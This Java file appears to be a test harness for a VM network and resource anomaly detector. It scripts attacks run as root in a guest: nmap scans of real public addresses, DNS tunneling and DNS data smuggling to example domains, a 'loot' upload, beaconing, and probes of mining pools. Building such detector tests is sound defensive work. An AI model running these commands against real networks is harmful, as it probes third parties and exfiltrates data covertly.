package dev.agentvm.libvirt.lab;

import java.time.Duration;
import java.util.List;
import java.util.Set;

/** Attacks by the programs that people use for them. Sizes and targets are left to a seed. */
final class Attacks {
    private static final Set<String> NOTHING = Set.of();
    private static final Set<String> SCAN = Set.of("port-scan", "denied-burst");
    /** What scans do besides. */
    private static final Set<String> BESIDES = Set.of("new-destinations", "connection-rate");

    /** More than 30 samples. */
    private static final Duration CALM = Duration.ofSeconds(310);

    private Attacks() {}

    /**
     * An attack.
     *
     * @param step what is done; it fails if the attack did not take place, and a line {@code expected KIND} of its output
     *     adds to what is expected
     * @param expected kinds of anomalies that it must be found as
     * @param allowed kinds that it may rightly be found as besides
     * @param calm how long the guest is left alone before, so that it has a usual use of its resources
     */
    record Attack(AgentWork.Step step, Set<String> expected, Set<String> allowed, Duration calm) {
        private static Attack of(String name, Set<String> expected, Set<String> allowed, String script) {
            return new Attack(new AgentWork.Step(name, 1, "root", script), expected, allowed, Duration.ZERO);
        }

        private static Attack afterCalm(String name, Set<String> expected, Set<String> allowed, String script) {
            return new Attack(new AgentWork.Step(name, 1, "root", script), expected, allowed, CALM);
        }
    }

    static final List<Attack> ALL = List.of(
            Attack.of("nmap-connect", SCAN, BESIDES, """
                    nmap -n -Pn -sT -T4 --top-ports $(between 60 300) 140.82.112.3"""),
            Attack.of("nmap-syn", SCAN, BESIDES, """
                    nmap -n -Pn -sS -T$(between 3 4) --top-ports $(between 60 300) 151.101.1.6"""),
            Attack.of("nmap-udp", SCAN, BESIDES, """
                    nmap -n -Pn -sU -T4 --max-retries 1 --top-ports $(between 40 80) 8.8.8.8"""),
            Attack.of("hping3-ports", SCAN, BESIDES, """
                    hping3 --quiet --syn --destport ++$(between 100 9000) --interval u$(between 20000 100000) \\
                      --count $(between 40 100) $www_address"""),
            Attack.of("nmap-private", Set.of("address-scan", "denied-burst"), NOTHING, """
                    nmap -n -Pn -T4 --max-retries 1 -p $(between 1 2 | sed 's/1/22/; s/2/443/') \\
                      10.$(between 0 255).$(between 0 255).0/26"""),
            Attack.of(
                    "nmap-public",
                    Set.of("address-scan", "new-destinations"),
                    Set.of("connection-rate"),
                    "nmap -n -Pn -T4 --max-retries 1 -p 443 $(between 20 90).$(between 0 255).$(between 0 255).0/25"),
            Attack.of("ab-flood", Set.of("connection-rate"), NOTHING, """
                    ab -q -n $(between 200 400) -c $(between 2 10) http://$www_address/"""),
            Attack.of("iodine", Set.of("dns-tunnel"), NOTHING, """
                    modprobe tun
                    iodine -f -r -P secret tunnel.example.com >iodine.log 2>&1 &
                    for ((tries = 0; tries < 60; tries++)); do
                      ip -4 addr show dns0 2>/dev/null | grep -q inet && break
                      sleep 1
                    done
                    fetch --max-time 60 http://10.99.0.1/bytes/$(between 20000 60000) || { cat iodine.log; exit 1; }
                    kill $!"""),
            Attack.of("dns2tcp", Set.of("dns-tunnel"), NOTHING, """
                    dns2tcpc -r web -l 8888 -z relay.example.com $(awk '/^nameserver/ { print $2 }' /etc/resolv.conf) \\
                      >dns2tcp.log 2>&1 &
                    sleep 3
                    fetch --max-time 60 http://127.0.0.1:8888/bytes/$(between 10000 30000) || { cat dns2tcp.log; exit 1; }
                    kill $!"""),
            Attack.of("dns-smuggling", Set.of("dns-tunnel"), Set.of("unknown-names"), """
                    head -c $(between 1000 3000) /dev/urandom | base32 -w $(between 40 60) | tr A-Z= a-z1 |
                      while read -r piece; do
                        getent hosts $piece.data.example.net || true
                      done"""),
            Attack.of("nmap-dns-brute", Set.of("unknown-names"), Set.of("dns-tunnel"), """
                    nmap -sn -n -Pn --script dns-brute \\
                      --script-args dns-brute.domain=example.com,dns-brute.threads=$(between 3 10) 127.0.0.1"""),
            Attack.of("curl-upload", Set.of("upload-ratio"), Set.of("unusual-traffic"), """
                    truncate --size 300M loot
                    speed=$(fetch --upload-file loot --max-time 300 --write-out '%{speed_upload}' http://$files/loot)
                    echo "bytes per second: $speed"
                    # By its own word it sent 100 MiB in 10 s, with a margin for how often it is looked at.
                    ((${speed%.*} < 12000000)) || echo "expected upload-volume\""""),
            Attack.of("curl-slow-upload", Set.of("upload-ratio"), NOTHING, """
                    truncate --size 130M loot
                    fetch --upload-file loot --limit-rate $(between 3 6)M --max-time 300 http://$files/loot"""),
            Attack.of("curl-beacon", Set.of("beaconing"), NOTHING, """
                    home=(1.1.1.1 8.8.8.8)
                    home=${home[$(between 0 1)]}
                    base=$(between 5500 9000)
                    rm -f calls
                    for ((call = 14; call > 0; call--)); do
                      date +%s.%N >>calls
                      fetch --max-time 5 http://$home/task
                      sleep $(awk "BEGIN { print $((base * $(between 90 110))) / 100000 }")
                    done
                    # A guest that is too slow to keep the pace is no beacon.
                    awk 'NR > 1 { gap = $1 - last; sum += gap; squares += gap * gap } { last = $1 }
                      END { mean = sum / (NR - 1); exit sqrt(squares / (NR - 1) - mean * mean) > 0.15 * mean }' calls"""),
            Attack.of("mining", Set.of("mining-pool"), Set.of("sustained-cpu", "unusual-cpu"), """
                    pools=(pool.supportxmr.com xmr-eu1.nanopool.org gulf.moneroocean.stream xmr.2miners.com de.minexmr.com)
                    for ((attempt = 3; attempt > 0; attempt--)); do
                      ! curl --silent --max-time 3 telnet://${pools[$(between 0 4)]}:3333 </dev/null
                    done
                    openssl speed -seconds $(between 5 20) -bytes 8192 sha256"""),
            Attack.afterCalm("cpu-hog", Set.of("sustained-cpu", "unusual-cpu"), NOTHING, """
                    until=$((SECONDS + $(between 60 90)))
                    while ((SECONDS < until)); do :; done"""),
            Attack.afterCalm("disk-hog", Set.of("disk-writes", "unusual-disk"), Set.of("unusual-cpu"), """
                    dd if=/dev/zero of=junk bs=1M count=$(between 1200 1500) conv=fsync
                    rm junk"""),
            Attack.afterCalm("traffic-burst", Set.of("unusual-traffic"), Set.of("unusual-cpu"), """
                    fetch --max-time 300 http://$files/bytes/$(between 300000000 500000000)"""));
}
